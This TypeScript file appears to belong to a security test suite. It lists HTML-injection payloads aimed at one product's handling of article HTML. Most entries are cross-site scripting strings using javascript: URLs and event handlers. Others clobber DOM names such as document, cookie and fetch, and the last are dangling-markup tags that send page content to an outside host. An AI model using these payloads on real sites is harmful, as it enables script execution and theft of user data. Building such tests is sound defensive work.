import { type Attack, escaped } from "./attack.ts";

/** Aimed at what this product makes of an article's HTML: links for players, ids for headings, sizes for pictures, and the names in the page. */
export const articleParts: Attack[] = [
	// A player becomes a link that names its host.
	(run) => `<iframe src="javascript:${run}//https://video.example/"></iframe>`,
	(run) => `<iframe src="https://video.example/&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
	(run) => `<iframe src='https://video.example/"onclick="${run}'></iframe>`,
	(run) => `<iframe src="https://&lt;img src=x onerror=${run}&gt;/"></iframe>`,
	(run) => `<iframe src="https://video.example&lt;svg onload=${run}&gt;.example/"></iframe>`,
	(run) => `<iframe src="https://video.example@javascript:${run}/"></iframe>`,
	(run) =>
		`<iframe src="https://name:word@video.example/" srcdoc="${escaped(`<script>parent.${run}</script>`)}"></iframe>`,
	(run) =>
		`<iframe src="https://video.example/a" onload=${run} srcdoc="<script>parent.${run}</script>"><img src=x onerror=${run}></iframe>`,
	(run) => `<iframe src=" https://video.example/a"><script>${run}</script>`,
	(run) => `<iframe src="//javascript:${run}"></iframe><iframe src="https:javascript:${run}"></iframe>`,
	(run) => `<iframe src="https://video.example/${"a".repeat(5000)}" onfocus=${run} autofocus></iframe>`,
	(run) =>
		`<iframe src="data:text/html,<script>parent.${run}</script>"><video src="https://video.example/a" onloadstart=${run}></video></iframe>`,
	(run) =>
		`<video src="https://video.example/a" controls onloadstart=${run} poster=x><img src=x onerror=${run}></video>`,
	(run) =>
		`<video src="javascript:${run}"><source src="javascript:${run}" onerror=${run}><track onload=${run}></video>`,
	(run) => `<video><source src='https://video.example/a" onclick="${run}' onerror=${run}></video>`,
	(run) => `<p>Words<video src="data:video/mp4,x" onerror=${run}><p onclick=${run}>More</video></p>`,
	(run) => `<a href="/about"><iframe src="https://video.example/a"></a><img src=x onerror=${run}></iframe></a>`,
	// A heading's words become its id.
	(run) => `<h2>&quot; onclick=${run} x=&quot;</h2>`,
	(run) => `<h2>"><img src=x onerror=${run}></h2>`,
	(run) => `<h2>&lt;/h2&gt;${escaped(`<script>${run}</script>`)}</h2>`,
	(run) => `<h2><a title="</h2><img src=x onerror=${run}>" href="/about">Words</a></h2>`,
	(run) => `<h2><img alt="</h2><script>${run}</script>" src="/stock/lake-camp-640.webp"></h2>`,
	(run) => `<h2 id='"><script>${run}</script>' onclick=${run}>Words</h2>`,
	(run) => `<h1 onclick=${run} id=main>Words</h1><h2 id="main">Main</h2><h3 id=share>Share</h3>`,
	(run) => `<h2>$&$1$'$\`<b onclick=${run}>$0</b></h2>`,
	(run) => `<h2>__proto__</h2><h2>constructor</h2><h3>toString</h3><h4 onclick=${run}>hasOwnProperty</h4>`,
	(run) => `<h2><h3><h2 onclick=${run}></h3>Words</h2><h4></h2>`,
	(run) => `<h2>\u0000\u202e${"\ud835\udcb3".repeat(80)}<b onclick=${run}></b></h2>`,
	// Pictures get their sizes.
	(run, far) => `<img srcset="${far} 1x, javascript:${run} 2x" sizes="100vw" alt="Words">`,
	(run, far) =>
		`<img src="/stock/lake-camp-640.webp" srcset='x" onerror="${run}' sizes='"onerror=${run}' imagesrcset=${far}>`,
	(run) => `<img src='/stock/lake-camp-640.webp"onload="${run}' width='1"onload="${run}' height="javascript:${run}">`,
	(run) => `<img src='/stock/"><script>${run}</script>-640.webp' alt='"><script>${run}</script>'>`,
	(run) =>
		`<img src="/stock/lake-camp-640.webp\n" onload=${run} alt="a&quot; onload=${run}" longdesc="javascript:${run}">`,
	(run) => `<img src="/stock/$&-640.webp" width="99999999" height="-1" onload=${run} loading=eager fetchpriority=high>`,
	(_, far) => `<img src="${far.replace("https:", "")}" alt="Words"><img src="\\\\${far.replace("https://", "")}">`,
	(_, far) =>
		`<img alt="Words" crossorigin=use-credentials lowsrc="${far}" dynsrc="${far}" data-src="${far}" usemap="${far}">`,
	// Other allowed attributes.
	(run) => `<a href='/about"onclick="${run}' title='"onclick="${run}' rel='"onclick="${run}'>Words</a>`,
	() =>
		`<a href="https://shop.example/" rel="opener" target="_blank" download="x.html" referrerpolicy="unsafe-url">Words</a>`,
	(run) => `<ol start='1" onmouseover="${run}' type="javascript:${run}" reversed><li value="${run}">Words</li></ol>`,
	(run) =>
		`<table><tr><td colspan='2"onclick="${run}' rowspan=99999 headers=x>1</td><th scope='"onclick="${run}'>2</th></tr></table>`,
	// Names that hide parts of the page or of the browser from the page's own scripts.
	() => `<a id="__reactRouterContext" name="__reactRouterContext" href="/about">Words</a>`,
	() => `<form name="document" id="window"><input name="body"><input name="querySelector"></form>`,
	() => `<form id="attributes" name="attributes"><input name="attributes"><input id="nodeName"></form>`,
	() => `<img name="cookie"><img id="currentScript" name="currentScript"><img name="getElementById">`,
	() =>
		`<a id="defaultView"></a><a id="defaultView" name="fetch" href="javascript:0"></a><p id="root" name="location">Words</p>`,
	() =>
		`<iframe name="navigator" srcdoc="&lt;a id=share&gt;&lt;/a&gt;"></iframe><object id="history" name="history"></object>`,
	() => `<h2 id="matching">Words</h2><h2 id="related" name="share">Words</h2><p id="main">Words</p>`,
	() => `<p data-discover="true" data-reference="x" data-react-router="y" suppresshydrationwarning>Words</p>`,
	// Tags that are left open, to draw in what follows: the last of these reach for the page's end.
	(run) => `<p title="Words onclick=${run}`,
	(_, far) => `<a href='${far}?`,
	(_, far) => `<form action='${far}'><textarea name=words>`,
	(_, far) => `<button form=f formaction="${far}">Press</button><form id=f><textarea name=a>`,
	(_, far) => `<meta http-equiv=refresh content='0;url=${far}?`,
	(_, far) => `<table background='${far}?`,
	(_, far) => `<base target='${far} `,
	(_, far) => `<link rel=stylesheet href='${far}?`,
	(_, far) => `<style>p{background:url('${far}?`,
];
